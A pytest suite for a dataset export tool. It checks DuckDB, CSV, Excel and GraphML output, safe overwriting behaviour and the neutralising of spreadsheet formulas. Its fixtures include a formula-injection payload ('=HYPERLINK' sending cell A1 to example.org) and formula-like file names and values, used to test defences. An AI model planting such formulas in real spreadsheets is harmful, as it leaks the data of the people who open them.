"""Exports hold what the version holds, harm no spreadsheet, and replace nothing unasked."""

import csv
import io
import json
import os
import re
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import duckdb
import networkx as nx
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

from tests.commands import invoke_ucap
from tests.example_outputs import ONE, READINGS, file_tree
from tests.example_readings import make_correction, make_reading
from tests.old_versions import rewrite_version
from ucap.publishing.assemble import assemble_dataset
from ucap.publishing.errors import OutputError
from ucap.publishing.exports.csv_folder import neutralise_formulas
from ucap.publishing.exports.export import ExportFormat, export_version
from ucap.publishing.exports.graph import write_graph
from ucap.publishing.exports.tables import VersionTables
from ucap.publishing.exports.workbook import MAX_CHARACTERS, shorten_cell
from ucap.publishing.manifest import Manifest
from ucap.publishing.versions import publish_dataset
from ucap.schemas.arrow import render_schema
from ucap.schemas.records import TABLES

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
CONTROLS = "bell\x07 escape\x1b return\r NUL\x00 nobody\ufffe _x000D_ end"
LONG = "täxt 🚋 " * 6000
FORMATS: tuple[ExportFormat, ...] = ("duckdb", "csv", "xlsx", "graphml")


def _make_hostile() -> Any:
    reading = make_reading("=cmd.pdf", modified_at=datetime(2019, 5, 6, 7, 8, 9, tzinfo=UTC))
    assert reading.ucap
    activity = reading.ucap.activities[0].model_copy(
        update={"text": FORMULA, "items": ["=1+1", 'a "quoted", one', CONTROLS], "date_start": date(1899, 12, 31)}
    )
    section = reading.ucap.sections[0].model_copy(update={"text": LONG})
    theme = reading.ucap.themes[0].model_copy(update={"theme": CONTROLS, "key_focus": "", "key_challenge": None})
    city = reading.ucap.cities[0].model_copy(update={"longitude": -4.5, "geonames_id": 2**60 + 1, "population": 7})
    ucap = replace(
        reading.ucap,
        activities=(activity, reading.ucap.activities[1]),
        sections=(section, *reading.ucap.sections[1:]),
        themes=(theme,),
        cities=(city, *reading.ucap.cities[1:]),
    )
    return assemble_dataset([*READINGS[1:], replace(reading, ucap=ucap)], [make_correction("-turku.yml", 1)])


DATASET = _make_hostile()


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    output = tmp_path_factory.mktemp("output")
    return output, publish_dataset(DATASET, output).version


@pytest.fixture(scope="module")
def exports(published: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exports")
    for form in FORMATS:
        export_version(*published, form, folder / form)
    return folder


# DuckDB


@pytest.fixture(scope="module")
def database(exports: Path) -> Any:
    with duckdb.connect(str(exports / "duckdb"), read_only=True) as connection:
        yield connection


def test_the_database_holds_every_table_in_its_types(database: Any) -> None:
    for name, table in DATASET.tables.items():
        found = database.sql(f'SELECT * FROM "{name}"').to_arrow_table()
        assert found.column_names == table.column_names
        instants = [f.name for f in table.schema if pa.types.is_timestamp(f.type)]
        kept = [column for column in table.column_names if column not in instants]
        assert found.select(kept).cast(table.select(kept).schema).equals(table.select(kept)), name
    (modified,) = database.execute("SELECT epoch(modified_at) FROM documents WHERE modified_at IS NOT NULL").fetchone()
    assert modified == datetime(2019, 5, 6, 7, 8, 9, tzinfo=UTC).timestamp()


def test_the_database_has_a_format_that_older_versions_open(database: Any, exports: Path) -> None:
    (tags,) = database.execute("SELECT tags FROM duckdb_databases() WHERE NOT internal").fetchone()
    assert tags["storage_version"] == "v1.0.0+"
    header = (exports / "duckdb").read_bytes()[8:20]  # what the file itself says: 64 is the format of DuckDB 0.10 to 1.1
    assert header[:4] == b"DUCK" and int.from_bytes(header[4:], "little") == 64


def test_a_quotation_mark_in_the_name_of_a_database_does_no_harm(published: tuple[Path, str], tmp_path: Path) -> None:
    export_version(*published, "duckdb", tmp_path / "it's a.duckdb")
    with duckdb.connect(str(tmp_path / "it's a.duckdb"), read_only=True) as connection:
        assert connection.execute("SELECT count(*) FROM pairings").fetchone() == (2,)


def test_the_database_explains_itself(database: Any, published: tuple[Path, str]) -> None:
    assert database.execute("SELECT version FROM dataset").fetchall() == [(published[1],)]
    tables = dict(database.execute("SELECT table_name, comment FROM duckdb_tables()").fetchall())
    assert tables.keys() == {*TABLES, "dataset"} and all(tables.values())
    columns = database.execute("SELECT table_name, column_name, comment FROM duckdb_columns() WHERE NOT internal").fetchall()
    comments = {(table, column): comment for table, column, comment in columns if table in TABLES}
    assert comments["cities", "area_km2"] == "Area. Unit: km²."
    for (table, column), comment in comments.items():
        assert comment.startswith(TABLES[table].model_fields[column].description or "?")


def test_the_database_holds_keys_and_references(database: Any) -> None:
    found = database.execute("SELECT table_name, constraint_type, constraint_column_names FROM duckdb_constraints()").fetchall()
    primary = {table: tuple(columns) for table, kind, columns in found if kind == "PRIMARY KEY"}
    assert primary == {name: model.key_columns for name, model in TABLES.items() if name != "evidence"}
    foreign = {(table, *columns) for table, kind, columns in found if kind == "FOREIGN KEY"}
    assert {("cities", "ucap_id"), ("entities", "activity_id"), ("issues", "source_path")} <= foreign


def test_each_view_answers_and_is_explained(database: Any) -> None:
    views = dict(database.execute("SELECT view_name, comment FROM duckdb_views() WHERE NOT internal").fetchall())
    assert set(views) == {"pairings", "city_pairs", "activity_calendar", "agenda_counts", "open_issues", "value_origins"}
    assert all(views.values())
    rows = {name: database.execute(f"SELECT * FROM {name}").fetchall() for name in views}
    assert [row[0] for row in rows["pairings"]] == ["lviv--hue", "turku--hue"]
    assert database.execute("SELECT lead_countries, activities FROM pairings WHERE ucap_id = 'turku--hue'").fetchall() == [
        (["FI"], 2)
    ]
    assert [(row[1], row[6]) for row in rows["city_pairs"]] == [("Lviv", "Hue"), ("Turku", "Hue")]
    assert [row[0] for row in rows["activity_calendar"]] == [date(1899, 12, 31), date(2018, 5, 1)]
    assert rows["agenda_counts"] == [
        ("SDG", 11, "Sustainable Cities and Communities", 2),
        ("EU Urban Agenda", None, "Urban Mobility", 2),
    ]
    assert [(row[0], row[2], row[3]) for row in rows["open_issues"]] == [("error", "c.pdf", "quarantined")]
    assert {row[6] for row in rows["value_origins"]} == {"b.pdf", "=cmd.pdf"}


# CSV


def _read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_csv_holds_every_row(exports: Path) -> None:
    assert {path.name for path in (exports / "csv").iterdir()} == {f"{name}.csv" for name in [*TABLES, "columns", "about"]}
    for name, table in DATASET.tables.items():
        rows = _read_csv(exports / "csv" / f"{name}.csv")
        assert len(rows) == table.num_rows
        assert not rows or list(rows[0]) == table.column_names
    frame = pd.read_csv(exports / "csv" / "cities.csv")
    assert frame["population"].dropna().tolist() == [195301.0, 7.0]
    assert frame["longitude"].dropna().tolist() == [-4.5], "a negative number is no formula"


def test_no_text_of_a_csv_is_a_formula(exports: Path) -> None:
    schemas = {name: render_schema(model) for name, model in TABLES.items()}
    seen = 0
    for name in TABLES:
        for row in _read_csv(exports / "csv" / f"{name}.csv"):
            for column, value in row.items():
                if pa.types.is_string(schemas[name].field(column).type):
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), (name, column)
                    assert "\0" not in value
                    seen += value.startswith("'")
    assert seen >= 3  # the formula, and paths that begin with = and -
    activities = _read_csv(exports / "csv" / "activities.csv")
    (row,) = [row for row in activities if row["text"].endswith(FORMULA)]
    assert row["text"] == f"'{FORMULA}"
    assert json.loads(row["items"])[:2] == ["=1+1", 'a "quoted", one']


def test_csv_tells_null_from_empty(exports: Path) -> None:
    with duckdb.connect() as connection:
        themes = f"read_csv('{exports}/csv/themes.csv', allow_quoted_nulls = false)"
        query = f"SELECT key_focus, key_challenge FROM {themes} WHERE ucap_id = 'turku--hue'"
        assert connection.execute(query).fetchall() == [("", None)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("=1", "'=1", id="formula"),
        pytest.param("+49 30", "'+49 30", id="telephone"),
        pytest.param("-", "'-", id="hyphen"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("\r=1", "'\r=1", id="return"),
        pytest.param("\n=1", "'\n=1", id="line-break"),
        pytest.param("＝1", "'＝1", id="full-width"),
        pytest.param("a\n=1", "a\n=1", id="second-line"),
        pytest.param("a=1", "a=1", id="not-at-the-start"),
        pytest.param("", "", id="empty"),
        pytest.param(None, None, id="null"),
        pytest.param("a\0b", "a\ufffdb", id="nul"),
    ],
)
def test_a_formula_is_neutralised(text: str | None, expected: str | None) -> None:
    assert neutralise_formulas(pa.chunked_array([[text]], pa.string())).to_pylist() == [expected]


# Excel


@pytest.fixture(scope="module")
def workbook(exports: Path) -> Any:
    return openpyxl.load_workbook(io.BytesIO((exports / "xlsx").read_bytes()))


def _read_sheet(workbook: Any, name: str) -> list[dict[str, Any]]:
    rows = workbook[name].iter_rows(values_only=True)
    head = next(rows)
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_the_workbook_has_a_sheet_a_table(workbook: Any, published: tuple[Path, str]) -> None:
    assert workbook.sheetnames == ["about", "pairings", "columns", *TABLES]
    for name, table in DATASET.tables.items():
        rows = _read_sheet(workbook, name)
        assert len(rows) == table.num_rows
        assert [cell.value for cell in workbook[name][1]] == table.column_names
    assert ("version", published[1]) in [(row["name"], row["text"]) for row in _read_sheet(workbook, "about")]
    assert {
        "table": "cities",
        "column": "area_km2",
        "type": "double",
        "key": False,
        "meaning": "Area.",
        "unit": "km²",
    }.items() <= next(row for row in _read_sheet(workbook, "columns") if row["column"] == "area_km2").items()


def test_the_workbook_is_made_to_be_read_and_printed(workbook: Any) -> None:
    for sheet in workbook:
        assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToHeight == 0
        assert (sheet.print_title_rows, sheet.freeze_panes) == ("$1:$1", "A2")
        texts = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
        assert all(cell.alignment.wrap_text and cell.alignment.vertical == "top" for cell in texts)
    activities = {row["activity_id"]: row for row in _read_sheet(workbook, "activities")}
    assert activities["turku--hue/a1"]["items"].startswith('=1+1; a "quoted", one; ')


def test_the_workbook_has_a_row_for_each_pairing(workbook: Any) -> None:
    rows = {row["ucap_id"]: row for row in _read_sheet(workbook, "pairings")}
    assert sorted(rows) == ["lviv--hue", "turku--hue"]
    turku = rows["turku--hue"]
    assert (turku["lead_cities"], turku["lead_countries"], turku["partner_countries"]) == ("Turku", "FI", "VN")
    assert (turku["themes"], turku["activities"]) == (1, 2)


def test_no_cell_of_the_workbook_is_a_formula(workbook: Any, exports: Path) -> None:
    assert {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row} == {"s", "n", "b", "d"}
    with zipfile.ZipFile(exports / "xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)
    (row,) = [row for row in _read_sheet(workbook, "activities") if str(row["text"]).startswith("=")]
    assert row["text"] == FORMULA


def test_cells_have_the_types_of_the_columns(workbook: Any) -> None:
    city = next(row for row in _read_sheet(workbook, "cities") if row["population"] == 7)
    assert (city["longitude"], city["geonames_id"], city["page"], city["province"]) == (-4.5, str(2**60 + 1), 1, None)
    activities = {row["activity_id"]: row for row in _read_sheet(workbook, "activities")}
    assert activities["lviv--hue/a1"]["date_start"] == datetime(2018, 5, 1)
    assert activities["turku--hue/a1"]["date_start"] == "1899-12-31"
    assert activities["turku--hue/a1"]["planned"] is False
    documents = {row["source_path"]: row for row in _read_sheet(workbook, "documents")}
    assert documents["=cmd.pdf"]["modified_at"] == datetime(2019, 5, 6, 7, 8, 9)


def test_characters_that_xml_forbids_do_not_break_the_workbook(workbook: Any) -> None:
    themes = {row["ucap_id"]: row["theme"] for row in _read_sheet(workbook, "themes")}
    # openpyxl leaves the escapes that Excel resolves as they are.
    shown = themes["turku--hue"]
    assert shown.startswith("bell") and shown.endswith(" end") and "\x07" not in shown and "\ufffe" not in shown


def test_what_a_cell_cannot_hold_is_cut_and_said(workbook: Any, published: tuple[Path, str], tmp_path: Path) -> None:
    (text,) = [row["text"] for row in _read_sheet(workbook, "sections") if str(row["text"]).startswith("täxt")]
    assert text.endswith(f" … [cut: the Parquet tables have all {len(LONG):,} characters]")
    assert MAX_CHARACTERS - 1 <= len(text.encode("utf-16-le")) // 2 <= MAX_CHARACTERS
    done = export_version(*published, "xlsx", tmp_path / "u.xlsx")
    assert len(done.notes) == 1 and done.notes[0].startswith(
        "sections: 1 text longer than a cell holds was cut, the first in row"
    )
    assert done.notes[0] in [row["text"] for row in _read_sheet(workbook, "about")]
    assert export_version(*published, "csv", tmp_path / "u").notes == ()
    assert max(len(row["text"]) for row in _read_csv(tmp_path / "u" / "sections.csv")) == len(LONG)


@pytest.mark.parametrize("length", [MAX_CHARACTERS - 1, MAX_CHARACTERS])
def test_what_just_fits_is_not_cut(length: int) -> None:
    assert shorten_cell("a" * length) == "a" * length
    assert len(shorten_cell("a" * (MAX_CHARACTERS + 1))) == MAX_CHARACTERS


def test_more_rows_than_a_sheet_holds_go_on_in_another(
    published: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ucap.publishing.exports.workbook.MAX_ROWS", 3)
    done = export_version(*published, "xlsx", tmp_path / "u.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "u.xlsx")
    assert [name for name in workbook.sheetnames if name.startswith("cities")] == ["cities", "cities (2)"]
    rows = _read_sheet(workbook, "cities") + _read_sheet(workbook, "cities (2)")
    assert [(row["ucap_id"], row["side"]) for row in rows] == [
        (row["ucap_id"], row["side"]) for row in DATASET.tables["cities"].to_pylist()
    ]
    assert "cities continues in further sheets, because one sheet holds 3 rows." in done.notes


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_same_version_gives_the_same_bytes(published: tuple[Path, str], tmp_path: Path, form: ExportFormat) -> None:
    for name in ("one", "two"):
        export_version(*published, form, tmp_path / name)
    one, two = (file_tree(tmp_path / name) if form == "csv" else (tmp_path / name).read_bytes() for name in ("one", "two"))
    assert one == two


# The place it is written to


@pytest.mark.parametrize("form", FORMATS)
def test_what_is_there_is_replaced_only_if_asked(published: tuple[Path, str], tmp_path: Path, form: ExportFormat) -> None:
    target = tmp_path / "target"
    export_version(*published, form, target)
    before = target.stat().st_ino
    with pytest.raises(OutputError, match="already exists: choose another place, or replace it with --force"):
        export_version(*published, form, target)
    assert target.stat().st_ino == before
    export_version(*published, form, target, force=True)
    assert target.stat().st_ino != before
    assert [path.name for path in tmp_path.iterdir()] == ["target"]


@pytest.mark.parametrize("form", FORMATS)
def test_a_failed_export_leaves_what_was_there(
    published: tuple[Path, str], tmp_path: Path, form: ExportFormat, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "target"
    export_version(*published, form, target)
    before = target.stat().st_ino

    def fail(*arguments: object, **options: object) -> None:
        raise OSError(28, os.strerror(28), "some file")

    for name in ("fsync", "replace" if form != "csv" else "rename"):
        with monkeypatch.context() as patch:
            patch.setattr(os, name, fail)
            with pytest.raises(OutputError, match="No space left on device; free some space"):
                export_version(*published, form, target, force=True)
        assert target.stat().st_ino == before
        assert [path.name for path in tmp_path.iterdir()] == ["target"]


def _put_file(target: Path) -> None:
    target.write_text("mine")


def _put_folder(target: Path) -> None:
    target.mkdir()


def _put_photographs(target: Path) -> None:
    target.mkdir()
    (target / "summer.jpg").write_bytes(b"")


def _put_wal(target: Path) -> None:
    target.with_name("t.wal").write_text("")


@pytest.mark.parametrize(
    ("form", "prepare", "message"),
    [
        pytest.param("csv", _put_file, "is not a folder", id="csv-over-a-file"),
        pytest.param("xlsx", _put_folder, "is a folder", id="workbook-over-a-folder"),
        pytest.param("csv", _put_photographs, r"other files than CSV files \(summer\.jpg\)", id="csv-over-other-things"),
        pytest.param(
            "duckdb", lambda t: t.with_name("t.wal").write_text(""), "is open in another program", id="database-in-use"
        ),
        pytest.param("csv", lambda t: t.parent.rmdir(), "there is no folder", id="no-folder"),
    ],
)
def test_nothing_else_is_ever_replaced(
    published: tuple[Path, str], tmp_path: Path, form: ExportFormat, prepare: Callable[[Path], object], message: str
) -> None:
    target = tmp_path / "folder" / "t"
    target.parent.mkdir()
    prepare(target)
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(OutputError, match=message):
        export_version(*published, form, target, force=True)
    assert sorted(tmp_path.rglob("*")) == before


def test_the_versions_are_no_place_for_an_export(published: tuple[Path, str]) -> None:
    output, version = published
    for target in (output / "versions" / "x", output / "latest" / "x.csv", output, output.parent):
        with pytest.raises(OutputError, match="is in the folder of the versions"):
            export_version(output, version, "csv", target, force=True)


def test_a_version_of_an_older_schema_is_exported(tmp_path: Path) -> None:
    publication = publish_dataset(ONE, tmp_path / "output")
    changes: dict[str, Callable[[pa.Table], pa.Table | None]] = {
        "cities": lambda table: table.drop_columns(["side"]),
        "corrections": lambda table: None,
    }
    rewrite_version(publication.path, "0.9.0", changes)
    for form in FORMATS:
        export_version(tmp_path / "output", publication.version, form, tmp_path / form)
    with duckdb.connect(str(tmp_path / "duckdb"), read_only=True) as connection:
        assert connection.execute("SELECT count(*), count(side) FROM cities").fetchall() == [(4, 0)]


# Graph


def test_the_graph_has_an_edge_for_each_event_of_two_cities(exports: Path) -> None:
    graph = nx.read_graphml(exports / "graphml")
    events = DATASET.tables["events"].to_pylist()
    named = [(event["event_id"], set(event["cities"]) | set(event["organisations"])) for event in events]
    assert {data["label"] for _, data in graph.nodes(data=True)} == {name for _, names in named for name in names}
    edges = Counter(data["event_id"] for *_, data in graph.edges(data=True))
    assert edges == {id_: len(names) * (len(names) - 1) // 2 for id_, names in named if len(names) > 1}


def test_the_graph_says_what_kind_of_event_and_when(tmp_path: Path) -> None:
    reading = make_reading()
    assert reading.ucap
    partner = reading.ucap.entities[0].model_copy(update={"text": "Graz", "canonical": "Graz", "start": 40, "end": 43})
    body = partner.model_copy(update={"text": CONTROLS, "label": "ORG", "canonical": None, "start": 50, "end": 53})
    ucap = replace(reading.ucap, entities=(*reading.ucap.entities, partner, body))
    rows = assemble_dataset([replace(reading, ucap=ucap)]).tables
    manifest = cast(Manifest, SimpleNamespace(version="0123"))
    (note,) = write_graph(VersionTables(manifest, rows.__getitem__), tmp_path / "a.graphml")
    assert note == "3 cities and organisations, 3 edges."
    graph = nx.read_graphml(tmp_path / "a.graphml")
    (edge,) = [data for *ends, data in graph.edges(data=True) if set(ends) == {"city: Graz", "city: Turku"}]
    assert (edge["date_start"], edge["date_precision"], edge["activity_types"], edge["document_count"]) == (
        "2018-05-01", "month", "meeting", 1,
    )  # fmt: skip
    assert "mode" not in edge
    assert edge["planned"] in (True, False)
    # As XML Schema spells truth values.
    written = (tmp_path / "a.graphml").read_text(encoding="utf-8")
    assert 'attr.type="boolean"' in written and not re.search("<data [^>]*>(True|False)<", written)


# The command


def test_the_command_exports_latest_or_the_named_version(
    published: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    output, version = published
    monkeypatch.chdir(tmp_path)
    done = invoke_ucap("export", "--to", "csv", "--output", output)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith(f"Exported version {version} to ucap-{version}-csv (")
    done = invoke_ucap("export", version[:5], "--to", "xlsx", "--output", output, "--target", "my.xlsx")
    assert done.returncode == 0 and (tmp_path / "my.xlsx").is_file()
    assert done.stdout.startswith("Note: sections: 1 text longer")
    again = invoke_ucap("export", "--to", "xlsx", "--output", output, "--target", "my.xlsx")
    assert (again.returncode, again.stdout) == (1, "") and "already exists" in again.stderr
    assert invoke_ucap("export", "--to", "xlsx", "--output", output, "--target", "my.xlsx", "--force").returncode == 0
    assert invoke_ucap("export", "--to", "docx", "--output", output).returncode == 2
    assert invoke_ucap("export", "--to", "csv", "--output", tmp_path / "none").returncode == 1
